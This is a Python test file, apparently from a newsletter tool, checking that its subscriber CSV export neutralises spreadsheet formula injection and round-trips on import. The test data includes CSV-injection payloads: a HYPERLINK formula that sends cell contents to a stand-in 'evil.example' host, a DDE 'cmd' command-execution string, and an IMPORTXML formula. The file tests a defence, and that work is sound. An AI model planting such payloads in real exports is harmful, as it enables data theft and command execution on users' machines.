"""Finding 12: `digest subscribers export` never writes a cell a spreadsheet would execute.

An address's local part may legally start with `=`, `+` or `-` (`=1+1@example.com`), a name or
a category (ingested from the CMS) can hold anything, so every column is neutralised, not only
the name; importing the export gives back exactly the stored values.
"""

from __future__ import annotations

import csv
import io
import string
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import delete, insert, select

from digest.db import session_scope
from digest.subscriber_lists import (
    EXPORT_COLUMNS,
    export_subscribers,
    import_subscribers,
    spreadsheet_safe,
    unquote_cell,
)
from digest.subscriptions import KNOWN_CATEGORIES
from schema.models import SUBSCRIBER_STATUSES, Subscriber, utcnow

# Written independently of the code under test, from OWASP's CSV injection guidance.
FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width forms
LEADING_CONTROL = ("\t", "\r", "\n")


def executes(cell: str) -> bool:
    """Would a spreadsheet run this cell? (leading blanks and zero-width characters skipped)"""
    significant = cell.lstrip(" \t\r\n\x0b\x0c\u00a0\u200b\u200c\u200d\ufeff\u2028\u2029")
    return cell.startswith(LEADING_CONTROL) or significant.startswith(FORMULA)


def exported_cells() -> list[list[str]]:
    out = io.StringIO()
    with session_scope() as session:
        export_subscribers(session, out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == list(EXPORT_COLUMNS)
    return rows[1:]


def insert_raw(rows: list[dict[str, object]]) -> None:
    """Rows as they might be stored by any path (signup, import, CMS categories), unvalidated."""
    now = utcnow()
    base = {"paused": False, "soft_bounces": 0, "created_at": now, "updated_at": now}
    with session_scope() as session:
        session.execute(insert(Subscriber), [{**base, **row} for row in rows])


def test_an_address_starting_with_a_formula_is_quoted_in_the_export(pg: str) -> None:
    insert_raw(
        [
            {"email": "=1+1@example.com", "status": "active", "frequency": "weekly"},
            {"email": "+sum@example.com", "status": "active", "frequency": "weekly"},
            {"email": "-2+3@example.com", "status": "pending", "frequency": "every"},
        ]
    )
    cells = exported_cells()
    assert [row[0] for row in cells] == [
        "'=1+1@example.com",
        "'+sum@example.com",
        "'-2+3@example.com",
    ]
    assert not any(executes(cell) for row in cells for cell in row)


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("name", '=HYPERLINK("https://evil.example/?"&A1,"Click")'),
        ("name", "  =cmd|' /C calc'!A0"),
        ("name", "\u200b@SUM(1+1)"),
        ("name", "\uff1d1+1"),
        ("categories", ["=IMPORTXML(A1)", "Writing"]),
        ("timezone", "+1 Europe/Berlin"),
    ],
)
def test_every_column_is_neutralised(pg: str, column: str, value: object) -> None:
    row: dict[str, object] = {"email": "ada@example.com", "status": "active"}
    row["frequency"] = "weekly"
    row[column] = value
    insert_raw([row])
    (cells,) = exported_cells()
    assert not any(executes(cell) for cell in cells), cells


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_with_a_formula(pg: str) -> None:
    """Spreadsheets start a new row at a bare CR: quoting only the start of a cell is not enough."""
    insert_raw(
        [
            {
                "email": "ada@example.com",
                "name": 'Ada\r=HYPERLINK("https://evil.example","x")',
                "status": "active",
                "frequency": "weekly",
            }
        ]
    )
    out = io.StringIO()
    with session_scope() as session:
        export_subscribers(session, out)
    lines = out.getvalue().replace("\r\n", "\n").split("\n")
    assert '"Ada\r=HYPERLINK(""https://evil.example"",""x"")"' in lines[1]  # quoted: one cell
    (cells,) = exported_cells()
    assert cells[1] == 'Ada\r=HYPERLINK("https://evil.example","x")'


def test_import_takes_the_quote_off_every_column(pg: str, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text(
        "email,name,categories,frequency,timezone\n'=1+1@example.com,'-Ada,Writing,weekly,\n",
        encoding="utf-8",
    )
    with session_scope() as session:
        report = import_subscribers(session, path)
    assert report.added == 1 and not report.errors
    with session_scope() as session:
        stored = session.scalars(select(Subscriber)).one()
        assert (stored.email, stored.name) == ("=1+1@example.com", "-Ada")


@settings(max_examples=2000, deadline=None)
@given(value=st.text())
def test_a_neutralised_cell_never_executes_and_unquotes_to_the_value(value: str) -> None:
    assert not executes(spreadsheet_safe(value))
    assert unquote_cell(spreadsheet_safe(value)) == value


# PostgreSQL text cannot hold NUL; everything else goes.
TEXT = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=40)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    rows=st.lists(
        st.fixed_dictionaries(
            {
                "email": TEXT.filter(bool),
                "name": TEXT,
                "categories": st.lists(TEXT, max_size=3),
                "frequency": st.sampled_from(["weekly", "every"]),
                "timezone": TEXT,
                "status": st.sampled_from([s for s in SUBSCRIBER_STATUSES if s != "deleted"]),
            }
        ),
        min_size=1,
        max_size=5,
    )
)
def test_no_exported_cell_executes_whatever_is_stored(pg: str, rows: list[dict]) -> None:
    with session_scope() as session:
        session.execute(delete(Subscriber))
    for number, row in enumerate(rows):  # unique addresses, whatever lower() does to the text
        row["email"] = f"{row['email']}#{number}"
    insert_raw(rows)
    exported = exported_cells()
    assert len(exported) == len(rows)  # no cell breaks out into a row of its own
    for cells in exported:
        assert not any(executes(cell) for cell in cells), cells


LOCAL = st.text(
    string.ascii_letters + string.digits + "=+-_!#$%&*/?^`{|}~", min_size=1, max_size=12
)
SIGNUP_ROW = st.fixed_dictionaries(
    {
        "email": st.builds(
            lambda lead, local: f"{lead}{local}@example.com",
            st.sampled_from(["", "=", "+", "-", "'", "'=", "+-"]),
            LOCAL,
        ),
        "name": st.one_of(
            st.none(),
            st.builds(
                lambda lead, rest: lead + rest,
                st.sampled_from(["", "=", "@", "-", "'", "''=", " +", "\u200b="]),
                TEXT,
            ),
        ),
        "categories": st.lists(st.sampled_from(KNOWN_CATEGORIES), max_size=3, unique=True),
        "frequency": st.sampled_from(["weekly", "every"]),
        "timezone": st.sampled_from(["", "UTC", "Europe/Berlin", "America/Argentina/Buenos_Aires"]),
    }
)


def stored_list() -> set[tuple[object, ...]]:
    with session_scope() as session:
        return {
            (s.email, s.name, tuple(s.categories or []), s.frequency, s.timezone)
            for s in session.scalars(select(Subscriber))
        }


def import_text(tmp_path: Path, body: str) -> None:
    path = tmp_path / "list.csv"
    path.write_text(body, encoding="utf-8")
    with session_scope() as session:
        import_subscribers(session, path, confirmed=True)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows=st.lists(SIGNUP_ROW, min_size=1, max_size=5))
def test_import_export_import_round_trips(pg: str, tmp_path: Path, rows: list[dict]) -> None:
    with session_scope() as session:
        session.execute(delete(Subscriber))
    source = io.StringIO()
    writer = csv.writer(source, lineterminator="\n")
    writer.writerow(["email", "name", "categories", "frequency", "timezone"])
    for row in rows:  # written the way an operator's list would be: through the same quoting
        writer.writerow(
            [
                spreadsheet_safe(row["email"]),
                spreadsheet_safe(row["name"] or ""),
                ";".join(row["categories"]),
                row["frequency"],
                row["timezone"],
            ]
        )
    import_text(tmp_path, source.getvalue())
    first = stored_list()

    exported = io.StringIO()
    with session_scope() as session:
        export_subscribers(session, exported)
        session.execute(delete(Subscriber))
    for cells in csv.reader(io.StringIO(exported.getvalue(), newline="")):
        assert not any(executes(cell) for cell in cells), cells
    import_text(tmp_path, exported.getvalue())
    assert stored_list() == first
